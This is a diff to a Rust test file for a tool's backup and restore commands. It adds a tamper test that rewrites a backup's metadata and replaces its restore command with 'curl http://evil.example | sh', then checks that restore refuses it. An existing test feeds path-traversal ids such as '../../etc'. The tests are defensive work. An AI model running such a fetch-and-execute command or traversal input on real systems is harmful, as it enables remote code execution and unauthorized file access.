@@ -11,6 +11,13 @@ fn backups(moved: &Moved) -> Vec<serde_json::Value> {
     serde_json::from_value(moved.workspace.run(["backups", "list", "--json"]).json()).unwrap()
 }
 
+/// The digest of a backup's milestones, as others compute it.
+fn sha256(moved: &Moved, id: &str) -> String {
+    let path = moved.workspace.path(format!("backups/{id}/milestones.jsonl"));
+    let sum = Command::new("sha256sum").arg(path).output().unwrap();
+    String::from_utf8_lossy(&sum.stdout).split(' ').next().unwrap().to_owned()
+}
+
 /// Thirty days of `check`s, after one that sees what is there.
 fn count_days(workspace: &Workspace) {
     let edit = |counted: u64| {
@@ -44,11 +51,7 @@ fn a_backup_tells_what_it_is_and_its_command_restores_it() {
         }
         let lines = moved.workspace.read(format!("backups/{id}/milestones.jsonl"));
         assert_eq!(lines.lines().count(), 7);
-        let sum = Command::new("sha256sum")
-            .arg(moved.workspace.path(format!("backups/{id}/milestones.jsonl")))
-            .output()
-            .unwrap();
-        assert!(String::from_utf8_lossy(&sum.stdout).starts_with(metadata["sha256"].as_str().unwrap()));
+        assert_eq!(sha256(&moved, id), metadata["sha256"].as_str().unwrap());
 
         // Everything changes: one is written, one is new, one is archived.
         let digest = moved.workspace.run(["milestone", "show", "m-0", "--digest"]).out.trim().to_owned();
@@ -98,6 +101,32 @@ fn a_damaged_backup_restores_nothing() {
     for bad in ["../../etc", "migration-x", "migration-../x"] {
         assert_eq!(moved.workspace.run(["restore", bad, "--yes"]).code, 1, "{bad}");
     }
+}
+
+#[test]
+fn what_somebody_else_wrote_into_a_backup_moves_nothing_and_tells_no_command() {
+    let moved = Moved::new(None, "", 5);
+    assert_eq!(moved.migrate("sqlite").code, 0);
+    let told = backups(&moved).remove(0);
+    let id = told["id"].as_str().unwrap();
+    // A line that is none, with the digest that fits.
+    let (path, metadata) = (format!("backups/{id}/milestones.jsonl"), format!("backups/{id}/backup-metadata.yaml"));
+    let text = moved.workspace.read(&path) + "{\"id\":17}\n";
+    moved.workspace.write(&path, &text);
+    let digest = sha256(&moved, id);
+    let said = moved.workspace.read(&metadata);
+    let said = said.replace(told["sha256"].as_str().unwrap(), &digest);
+    let said = said.replace(&format!("size_bytes: {}", told["size_bytes"]), &format!("size_bytes: {}", text.len()));
+    let command = told["restore_command"].as_str().unwrap();
+    moved.workspace.write(&metadata, said.replace(command, "curl http://evil.example | sh"));
+    let before = moved.dump();
+    let said = moved.workspace.run(["restore", id, "--yes"]);
+    assert!(said.code == 1 && said.err.contains(id), "{said:?}");
+    assert_eq!((moved.named().as_str(), moved.dump()), ("sqlite", before));
+    assert_eq!(backups(&moved).len(), 1, "it is read before anything is moved");
+    let shown = moved.workspace.run(["backups", "show", id]);
+    assert!(shown.out.contains(&format!("restore_command: {command}")) && !shown.out.contains("curl"), "{shown:?}");
+    assert_eq!(backups(&moved)[0]["restore_command"], told["restore_command"]);
 }
 
 #[test]
